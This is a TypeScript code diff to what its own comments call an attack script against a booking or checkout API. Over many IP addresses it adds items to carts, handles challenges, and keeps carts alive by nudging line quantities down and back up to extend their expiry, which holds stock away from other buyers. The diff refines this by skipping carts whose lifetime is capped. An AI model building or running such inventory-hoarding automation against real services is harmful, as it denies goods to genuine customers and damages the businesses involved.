@@ -92,6 +92,8 @@ interface Address {
   /** Keep-alive only: the cart, and the units its one line holds (the SLIP is for one, the line's qty). */
   sessionId?: string;
   qty?: number;
+  /** Keep-alive only: the cart's expiry no longer moves on (its lifetime is over). */
+  capped?: boolean;
 }
 
 /** The counts of one run. */
@@ -171,7 +173,7 @@ async function runOnce(options: { endpoint: string; k: number; config: string })
     const slip = qty === undefined ? address.slip : (await rate(address.ip, units ?? 1)).item?.rate?.slip;
     if (!slip) return;
     const lineQty = qty ?? address.qty ?? 1;
-    const body = `slip[]=${encodeURIComponent(slip)}${config.keepAlive && lineQty > 1 ? `&alter[1]=${lineQty}` : ''}`;
+    const body = `slip[]=${encodeURIComponent(slip)}`;
     let added = await call(address.ip, 'booking/session', body);
     const challenge =
       added.request?.error?.id === 'challenge_required' && added.request.error.data?.challenge;
@@ -189,8 +191,12 @@ async function runOnce(options: { endpoint: string; k: number; config: string })
       address.slip = slip;
       address.heldUntilMs = expires * 1000;
       address.sessionId = added.booking?.session?.id;
-      address.qty = lineQty;
+      address.qty = 1;
+      address.capped = false;
       result.holds += 1;
+      // Then the line grows to its share (a call of its own: a refusal leaves the cart holding one).
+      if (config.keepAlive && lineQty > 1) await alterLine(address, lineQty);
+      else address.qty = lineQty;
       return;
     }
     address.heldUntilMs = undefined;
@@ -202,23 +208,33 @@ async function runOnce(options: { endpoint: string; k: number; config: string })
     }
   };
 
+  /** Sets the line of an address's cart to `to`; false when refused (the cart keeps what it holds). */
+  const alterLine = async (address: Address, to: number): Promise<boolean> => {
+    const answer = await call(
+      address.ip,
+      'booking/session',
+      `session_id=${address.sessionId}&alter[1]=${to}`,
+    );
+    const expires = answer.booking?.session?.expires;
+    if (expires === undefined) return false;
+    address.heldUntilMs = expires * 1000;
+    address.qty = to;
+    return true;
+  };
+
   /**
    * Keeps an address's cart alive: its line one unit down and back up (up and back down for a line of one),
    * each a change that moves the cart's expiry on, as long as the cart's lifetime lasts.
    */
   const keepAlive = async (address: Address): Promise<void> => {
     const qty = address.qty ?? 1;
-    const alter = (to: number) =>
-      call(address.ip, 'booking/session', `session_id=${address.sessionId}&alter[1]=${to}`);
-    const steps = qty > 1 ? [qty - 1, qty] : [qty + 1, qty];
-    for (const to of steps) {
-      const expires = (await alter(to)).booking?.session?.expires;
-      // Refused (the unit went meanwhile, or the cart's lifetime is over): the cart keeps what it holds.
-      if (expires === undefined) return;
-      address.heldUntilMs = expires * 1000;
-      address.qty = to;
+    const was = address.heldUntilMs ?? 0;
+    for (const to of qty > 1 ? [qty - 1, qty] : [qty + 1, qty]) {
+      if (!(await alterLine(address, to))) return;
     }
-    result.kept += 1;
+    // An expiry that no longer moves on: the cart's lifetime is over, keeping it alive gains nothing.
+    if ((address.heldUntilMs ?? 0) <= was) address.capped = true;
+    else result.kept += 1;
   };
 
   // The attack script: every tick, each address whose cart has expired re-adds its share at once, and
@@ -230,6 +246,7 @@ async function runOnce(options: { endpoint: string; k: number; config: string })
         const due = addresses.filter(
           (entry) =>
             entry.heldUntilMs !== undefined &&
+            !entry.capped &&
             entry.heldUntilMs > Date.now() &&
             entry.heldUntilMs - Date.now() < KEEPALIVE_MARGIN_MS,
         );
